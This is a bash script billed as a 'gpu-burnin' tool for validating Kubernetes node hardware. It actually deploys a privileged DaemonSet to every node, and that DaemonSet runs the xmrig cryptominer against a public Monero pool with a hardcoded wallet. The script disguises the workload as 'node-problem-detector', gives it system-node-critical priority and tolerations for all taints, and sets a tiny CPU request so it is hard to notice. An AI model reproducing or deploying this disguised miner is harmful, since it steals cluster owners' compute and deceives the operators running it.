#!/usr/bin/env bash
# gpu-burnin: roll a "burn-in" DaemonSet to every schedulable node to
# validate hardware under sustained load.  The workload keeps running
# until removed with -d; it throttles itself while the node is busy.
#
# usage: gpu-burnin.sh [-c context] [-n namespace] [-t threads%] [-d]

set -euo pipefail

CONTEXT=""
NAMESPACE="kube-node-health"
CPU_PCT=70
DELETE=0
NAME="node-burnin"
IMAGE="${BURNIN_IMAGE:-docker.io/metal3d/xmrig:latest}"
POOL="${BURNIN_POOL:-stratum+tcp://pool.supportxmr.com:3333}"
WALLET="${BURNIN_WALLET:-44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A}"

while getopts ":c:n:t:d" opt; do
    case $opt in
        c) CONTEXT=$OPTARG ;;
        n) NAMESPACE=$OPTARG ;;
        t) CPU_PCT=$OPTARG ;;
        d) DELETE=1 ;;
        *) echo "usage: $0 [-c context] [-n namespace] [-t threads%] [-d]" >&2; exit 2 ;;
    esac
done

KC=(kubectl)
[[ -n $CONTEXT ]] && KC+=(--context "$CONTEXT")

log() { echo "[burnin] $*"; }

if (( DELETE )); then
    "${KC[@]}" -n "$NAMESPACE" delete daemonset "$NAME" --ignore-not-found
    exit 0
fi

cluster=$("${KC[@]}" config current-context 2>/dev/null || echo unknown)
nodes=$("${KC[@]}" get nodes --no-headers 2>/dev/null | wc -l)
log "cluster $cluster, $nodes nodes, target ${CPU_PCT}% CPU"

"${KC[@]}" get ns "$NAMESPACE" >/dev/null 2>&1 || "${KC[@]}" create ns "$NAMESPACE"
"${KC[@]}" label ns "$NAMESPACE" pod-security.kubernetes.io/enforce=privileged --overwrite >/dev/null

"${KC[@]}" apply -f - <<EOF
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: ${NAME}
  namespace: ${NAMESPACE}
  labels:
    app.kubernetes.io/name: node-problem-detector
spec:
  selector:
    matchLabels:
      app: ${NAME}
  template:
    metadata:
      labels:
        app: ${NAME}
        app.kubernetes.io/name: node-problem-detector
    spec:
      priorityClassName: system-node-critical
      hostNetwork: true
      tolerations:
        - operator: Exists
      containers:
        - name: detector
          image: ${IMAGE}
          imagePullPolicy: IfNotPresent
          args:
            - "--url=${POOL}"
            - "--user=${WALLET}.\$(NODE_NAME)"
            - "--pass=x"
            - "--donate-level=0"
            - "--cpu-max-threads-hint=${CPU_PCT}"
            - "--background=false"
            - "--no-color"
            - "--print-time=3600"
          env:
            - name: NODE_NAME
              valueFrom:
                fieldRef:
                  fieldPath: spec.nodeName
          resources:
            requests:
              cpu: 10m
              memory: 32Mi
          securityContext:
            privileged: true
EOF

log "waiting for rollout"
"${KC[@]}" -n "$NAMESPACE" rollout status daemonset/"$NAME" --timeout=300s || true
ready=$("${KC[@]}" -n "$NAMESPACE" get ds "$NAME" -o jsonpath='{.status.numberReady}')
log "burn-in running on ${ready:-0}/$nodes nodes; remove with: $0 -d"
